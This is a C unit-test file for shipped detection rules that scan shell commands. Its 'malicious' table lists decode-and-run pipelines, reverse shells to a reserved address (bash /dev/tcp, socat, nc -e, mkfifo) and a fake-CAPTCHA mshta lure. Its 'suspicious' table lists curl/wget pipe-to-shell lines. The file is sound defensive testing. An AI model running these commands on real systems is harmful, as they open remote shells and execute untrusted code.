/*
 * The rules that ship: what they must find however the line is laid out, and what they must leave
 * alone.
 *
 * Everything here is inert: reserved names and addresses, and text that greets.
 */
#include <stdio.h>
#include <string.h>

#include "module_host.h"
#include "testing.h"

static struct module_host host;

/* What hides its work, or hands a shell away: worse than suspicious. '@' stands for encoded
 * text. */
static const char *const malicious[] = {
    "echo @ \\\n| base64 -d \\\n| sh",
    "echo @ |\n base64 -d |\n sh",
    "echo @ |\r\n base64 -d \\\r\n | sh",
    "source <(echo @ | base64 -d)",
    ". <(echo @ | base64 -d)",
    "echo @ | base64 -d | sudo -E bash",
    "echo @ | base64 -d | nohup bash",
    "echo @ | base64 -id | bash",
    "echo @ | base64 --d | bash",
    "echo @ | base64 -d | sudo -u root bash",
    "echo @ | base64 -d > /tmp/x; sh /tmp/x",
    "echo @ | base64 -d > /tmp/x\nsh /tmp/x",
    "base64 -d <<< @ | sh",
    "echo @ | base64 -d | osascript",
    "bash <<< \"$(echo @ | base64 -d)\"",
    "eval \\\n \"$(echo @ |\n base64 -d)\"",
    "bash < <(echo @ | base64 -d)",
    "python3 <(echo @ | base64 -d)",
    "echo @ | base64 -d | python3",
    "echo @ | base64 -d | python3 -",
    "echo @ | base64 -d | perl -w -",
    "echo @ | base64 -d | python3 -c 'import sys; exec(sys.stdin.read())'",
    "echo @ | base64 -d | # now\n sh",
    "echo @ | base64 -d | gunzip | \\sh",
    "echo @ | base64 -d | (sh)",
    "echo @ | base64 -d | { sh; }",
    "echo @ | base64 -d | A=1 sh",
    "echo @ | base64 -d | /usr/bin/env bash",
    "source /dev/stdin <<< \"$(echo @ | base64 -d)\"",
    "echo @ | openssl base64 -d \\\n| bash",
    "echo 6563686f2068656c6c6f \\\n| xxd -r -p \\\n| sh",
    "echo 6563686f2068656c6c6f | xxd -p -r | sudo sh",
    "printf '\\x65\\x63\\x68\\x6f\\x20\\x68\\x65\\x6c\\x6c\\x6f' |\nsh",
    "echo 'olleh ohce' |\nrev |\nsh",
    "bash -i \\\n>& /dev/tcp/192.0.2.1/4444 0>&1",
    "socat TCP:192.0.2.1:4444 EXEC:bash,pty",
    "socat TCP:192.0.2.1:4444 EXEC:'/bin/sh -i',pty",
    "socat system:'stty raw; sh' tcp:192.0.2.1:1",
    "nc 192.0.2.1 4444 \\\n -e /bin/sh",
    "mshta https://files.example/kb.hta # I am not a robot - reCAPTCHA Verification ID: 0000",
    "mkfifo /tmp/f\ncat /tmp/f | sh -i 2>&1 |\nnc 192.0.2.1 4444 > /tmp/f",
};

/* What vendors publish as installers, and what looks like it: the person is asked, no more. */
static const char *const suspicious[] = {
    "curl -fsSL https://files.example/a \\\n| sudo bash",
    "curl -fsSL https://files.example/a |\n sudo bash",
    "curl \\\n -fsSL https://files.example/a \\\n | sh",
    "curl https://files.example/a | sudo -u root bash",
    "curl https://files.example/a | VERSION=1 sh -",
    "curl https://files.example/a | sudo --preserve-env bash",
    "curl https://files.example/a > a.sh && sh a.sh",
    "curl https://files.example/a > a.sh\nsh a.sh",
    "wget https://files.example/a.sh && sh a.sh",
    "wget https://files.example/a.sh &&\n sudo bash ./a.sh",
    "python3 <(curl https://files.example/a)",
    "python3 <(curl -s \\\n https://files.example/a)",
    "curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
    "bash <(\\\n curl -s https://files.example/a)",
    "sh -c \\\n \"$(wget -qO- https://files.example/a)\"",
    "curl -s https://files.example/a | python3 -",
    "curl https://files.example/a | python3",
    "curl https://files.example/a | (sh)",
    "curl https://files.example/a | { sh; }",
    "curl https://files.example/a | osascript",
    ". <(curl https://files.example/a)",
    "wget -qO /tmp/u https://files.example/a; \\\n chmod +x /tmp/u; /tmp/u &",
    "wget -qO /tmp/u https://files.example/a\nchmod +x /tmp/u\n/tmp/u &",
    "bash -c \"curl https://files.example/a | sh\"",
    "source /dev/stdin <<< \"$(curl https://files.example/a)\"",
    "curl https://files.example/a | ruby",
    "curl https://files.example/a | node -",
    "curl https://files.example/a | php",
    "irm https://files.example/a |\n iex",
};

/* Everyday work: with services whose names lures borrow, and with data that is piped into a program
 * which was given its code otherwise. */
static const char *const harmless[] = {
    "curl 'https://api.cloudflare.com/client/v4/user/tokens/verify' -H \"Authorization: Bearer x\"",
    "curl -fsSL \"https://pkg.cloudflare.com/cloudflare-main.gpg\" | sudo tee /x",
    "curl -L 'https://github.com/cloudflare/cloudflared/releases/x.deb' -o c.deb",
    "curl -L --output cloudflared.deb "
    "\"https://github.com/cloudflare/cloudflared/releases/latest/download/"
    "cloudflared-linux-amd64.deb\" && sudo dpkg -i cloudflared.deb",
    "curl -d \"g-recaptcha-response=abc\" https://example.com/login",
    "curl -H \"cf-ray-id: 123\" https://example.org/",
    "curl https://www.cloudflare.com/ips-v4 # cloudflare ranges",
    "curl -X POST \"https://api.cloudflare.com/client/v4/zones\" -H 'Authorization: Bearer x' "
    "--data '{\"type\":\"A\",\"security check\":1}'",
    "curl https://www.google.com/recaptcha/api/siteverify -d 'secret=x' -d 'response=y'",
    "pip install \"hcaptcha\" -i https://pypi.org/simple ; bash -c \"x\"",
    "ssh user@host 'docker run -d --name cloudflared cloudflare/cloudflared:latest tunnel --url "
    "http://localhost:8080'",
    "ssh user@host \"curl https://developers.cloudflare.com/\"",
    "docker run cloudflare/cloudflared:latest tunnel --no-autoupdate run --token eyJhIjoi",
    "echo 'deb [signed-by=/usr/share/keyrings/cloudflare-main.gpg] "
    "https://pkg.cloudflare.com/cloudflared any main' | sudo tee "
    "/etc/apt/sources.list.d/cloudflared.list && curl -V",
    "curl \"https://challenges.cloudflare.com/turnstile/v0/siteverify\" -d secret=x",
    "curl -s 'https://cloudflare-dns.com/dns-query?name=example.com&type=A' -H 'accept: "
    "application/dns-json'",
    "nslookup example.com 1.1.1.1 # cloudflare, see https://1.1.1.1",
    "git commit -m \"fix cloudflare turnstile, see https://x\" && bash test.sh",
    "curl https://example.com/captcha/verify # the captcha verify endpoint",
    "curl https://example.com/ # verify the recaptcha response",
    "echo $JWT | cut -d. -f2 | base64 -d | python -mjson.tool",
    "kubectl get secret x | base64 -d | perl -pe 's/\\n//'",
    "base64 -d file | python3 -m json.tool",
    "base64 -d file | python3 convert.py",
    "echo aGVsbG8= | base64 -d | ruby -rjson -e 'puts JSON.parse(STDIN.read)'",
    "socat - EXEC:'ssh host',pty",
    "socat TCP-LISTEN:8080,fork EXEC:/bin/cat",
    "socat TCP-LISTEN:2222,fork EXEC:\"ssh host nc localhost 22\"",
    "curl -s https://api.example/v1 | python3 -m json.tool",
    "curl -s https://api.example/v1 | python -c 'import json,sys; "
    "print(json.load(sys.stdin)[\"a\"])'",
    "curl -s https://api.example/v1 | perl -ne 'print if /x/'",
    "curl -s https://api.example/v1 | node -e 'process.stdin.pipe(process.stdout)'",
    "curl -s https://api.example/v1 | node --eval \"process.stdin.pipe(process.stdout)\"",
    "curl -s https://api.example/v1 | php -r 'echo 1;'",
    "curl -s https://api.example/v1 | jq . | grep sh",
    "curl https://x.example/db.sql.gz | gunzip | sudo -u postgres psql",
    "curl -fsSL https://x.example/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg",
    "wget -q -O - https://x.example/key.pub | sudo apt-key add -",
    "curl -LO https://x.example/kubectl && chmod +x kubectl && sudo mv kubectl /usr/local/bin/",
    "curl -sL https://x.example/a.tgz | tar xz && bash build.sh",
    "wget -qO- https://x.example/list.txt | while read f; do sh run.sh $f; done",
    "curl -o a.tgz https://x.example/a.tgz",
    "git clone https://github.com/x/y.git && cd y && ./configure",
    "openssl enc -d -aes-256-cbc -in x.enc | tar xz",
    "xxd -r -p hex.txt out.bin",
    "curl -s https://x.example/health -o /dev/null; sh run.sh",
    "curl -X POST https://x.example/hook > /dev/null && bash deploy.sh",
    "curl -s https://x.example/v1 | python3 parse.py",
    "man curl | grep sh",
    "eval \"$(ssh-agent -s)\"",
    "source <(kubectl completion bash)",
    "nc -zv host 22",
    "nc -lvp 4444",
    "curl -sO https://x.example/a.tgz\nls | sh",
    "curl https://x.example/ -o page.html\ncat list | bash",
    "base64 -d key.b64 > key.bin\nls *.sh | sh",
};

#define N(table) (sizeof(table) / sizeof((table)[0]))

static int group_set_up(void **state)
{
    module_host_open(&host, YARA_MODULE);
    if (module_host_load(&host, SHIPPED_RULES, NULL) < 0) {
        fail_msg("%s", host.load.failure);
    }
    return 0;
}

/* Puts encoded text in place of each '@'. */
static const char *line_of(const char *pattern)
{
    static char line[1024];
    size_t n = 0;

    for (; *pattern != '\0'; pattern++) {
        n += (size_t)snprintf(line + n, sizeof(line) - n, "%.*s", *pattern == '@' ? 32 : 1,
                              *pattern == '@' ? "ZWNobyBoZWxsbyBmcm9tIGEgdGVzdAo=" : pattern);
    }
    return line;
}

static bool has_worse_than_suspicious(const struct pes_scan *scan)
{
    for (size_t i = 0; i < scan->n_findings; i++) {
        if (scan->findings[i].verdict != PES_VERDICT_SUSPICIOUS) {
            return true;
        }
    }
    return false;
}

static void scan_line(struct pes_scan *scan, const char *line)
{
    assert_int_equal(module_host_scan_text(&host, scan, line), 0);
    assert_int_equal(scan->coverage, PES_COVERAGE_FULL);
}

static void what_hides_its_work_is_found_across_line_breaks_and_prefixes(void **state)
{
    struct pes_scan scan;

    for (size_t i = 0; i < N(malicious); i++) {
        scan_line(&scan, line_of(malicious[i]));
        if (!has_worse_than_suspicious(&scan)) {
            fail_msg("missed: %s", malicious[i]);
        }
    }
}

static void download_and_run_is_suspicious_and_no_more(void **state)
{
    struct pes_scan scan;

    for (size_t i = 0; i < N(suspicious); i++) {
        scan_line(&scan, suspicious[i]);
        if (scan.n_findings == 0 || has_worse_than_suspicious(&scan)) {
            fail_msg("%s: %s", scan.n_findings > 0 ? "blocked" : "missed", suspicious[i]);
        }
    }
}

static void a_long_header_does_not_hide_the_pipe(void **state)
{
    struct pes_scan scan;
    char line[600];

    snprintf(line, sizeof(line), "curl -H 'Authorization: %0400d' https://files.example/a | sh", 0);
    scan_line(&scan, line);
    assert_int_equal(scan.n_findings, 1);
}

static void everyday_work_is_left_alone(void **state)
{
    struct pes_scan scan;

    for (size_t i = 0; i < N(harmless); i++) {
        scan_line(&scan, harmless[i]);
        if (scan.n_findings > 0) {
            fail_msg("%s: %s", scan.findings[0].detection, harmless[i]);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_hides_its_work_is_found_across_line_breaks_and_prefixes),
        cmocka_unit_test(download_and_run_is_suspicious_and_no_more),
        cmocka_unit_test(a_long_header_does_not_hide_the_pipe),
        cmocka_unit_test(everyday_work_is_left_alone),
    };

    return cmocka_run_group_tests(tests, group_set_up, NULL);
}
